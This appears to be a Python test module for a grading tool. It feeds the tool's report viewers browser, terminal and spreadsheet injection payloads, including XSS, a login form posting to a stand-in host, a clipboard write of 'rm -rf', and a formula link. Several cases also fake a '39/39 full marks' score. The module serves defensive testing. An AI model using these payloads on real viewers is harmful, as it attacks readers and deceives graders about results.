"""Attack the reader: what runs in a browser, a terminal or a spreadsheet when someone looks at the result."""

from __future__ import annotations

from .attack import attack

THREAT = "attack the reader"
SHOW = "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display, publish_display_data as publish\n"
SCRIPTS = {
    "script": "display(HTML('<script>alert(1)</script><ScRiPt src=//x></sCrIpT>'))",
    "handlers": "display(HTML('<img src=x onerror=alert(1)><svg/onload=alert(1)><details open ontoggle=alert(1)>'))",
    "links that run": "display(HTML('<a href=\"java\\tscript:alert(1)\">x</a><a "
                      "href=\"data:text/html,<script>x\">y</a>'))",
    "style": "display(HTML('<style>.score{display:none}</style><div "
             "style=\"position:fixed;inset:0;background:#fff\">39/39'))",
    "forms": "display(HTML('<form action=//x><input name=p autofocus onfocus=alert(1)><button formaction=//y>Log in'))",
    "frames": "display(HTML('<iframe srcdoc=\"<script>parent.x=1</script>\"></iframe><object data=//x><embed "
              "src=//x>'))",
    "base and meta": "display(HTML('<base href=//x><meta http-equiv=refresh content=\"0;url=//x\"><link "
                     "rel=stylesheet href=//x>'))",
    "SVG": "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" "
           "onload=\"alert(1)\"><script>alert(1)</script></svg>'))",
    "JavaScript": "display(Javascript('alert(1)'))",
    "Markdown and LaTeX": "display(Markdown('[x](javascript:alert(1)) <script>alert(1)</script>'),"
    " Latex(r'$\\href{javascript:alert(1)}{x}\\unicode{<script>}$'))",
    "kinds that a front end knows": "publish({'application/javascript': 'alert(1)', "
                                    "'application/vnd.jupyter.widget-view+json': "
    "{'model_id': 'x'}, 'application/vnd.vega.v5+json': {}, 'text/html': '<script>alert(1)</script>', 'text/x': 'y'})",
    "an image that is none": "publish({'image/png': '\"><script>alert(1)</script>', 'image/jpeg': "
                             "'PHNjcmlwdD4=', 'image/svg+xml': '<script>'})",
    "half tags": "display(HTML('<scr<script>ipt>alert(1)</scr</script>ipt><!--><script>alert(1)//--><p id=x'))",
    "nested for ever": "display(HTML('<b><i>' * 50_000 + 'x'))",
}  # fmt: skip
for name, code in SCRIPTS.items():
    attack(THREAT, name, before=SHOW + code, core=name in ("script", "SVG"))

attack(
    THREAT,
    "escape sequences of a terminal",
    "def softmax(x): raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m\\x9b31m\\r\\u202e39/39 [bold]full "
    "marks[/bold]')",
    before="print('\\x1b]52;c;cm0gLXJm\\x07\\x1b[8m hidden', '\\x1bP\\x1b\\\\', '\\u202e\\u2066')",
    says="softmax|ValueError|full marks",
)
attack(
    THREAT,
    "a formula as a message",
    "def softmax(x): raise ValueError('=HYPERLINK(\"http://x\", \"39\")\\n@SUM(1)\\t+1')",
)
attack(
    THREAT,
    "HTML as a message",
    """
class X(Exception): pass
X.__name__ = '<script>alert(1)</script>'
def softmax(x): raise X('<img src=x onerror=alert(1)></pre><script>alert(1)</script>')
""",
)
attack(
    THREAT,
    "HTML as a value",
    'def softmax(x): return {"<script>alert(1)</script>": "<img src=x onerror=alert(1)>"}',
    answers={"softmax": 'def softmax(x): return {"<script>alert(1)</script>": "<img src=x onerror=alert(1)>"}',
             "shift_invariance": 'shift_invariance = ["<script>alert(1)</script>", "</code><img src=x '
                                 'onerror=alert(1)>"]'},
)  # fmt: skip
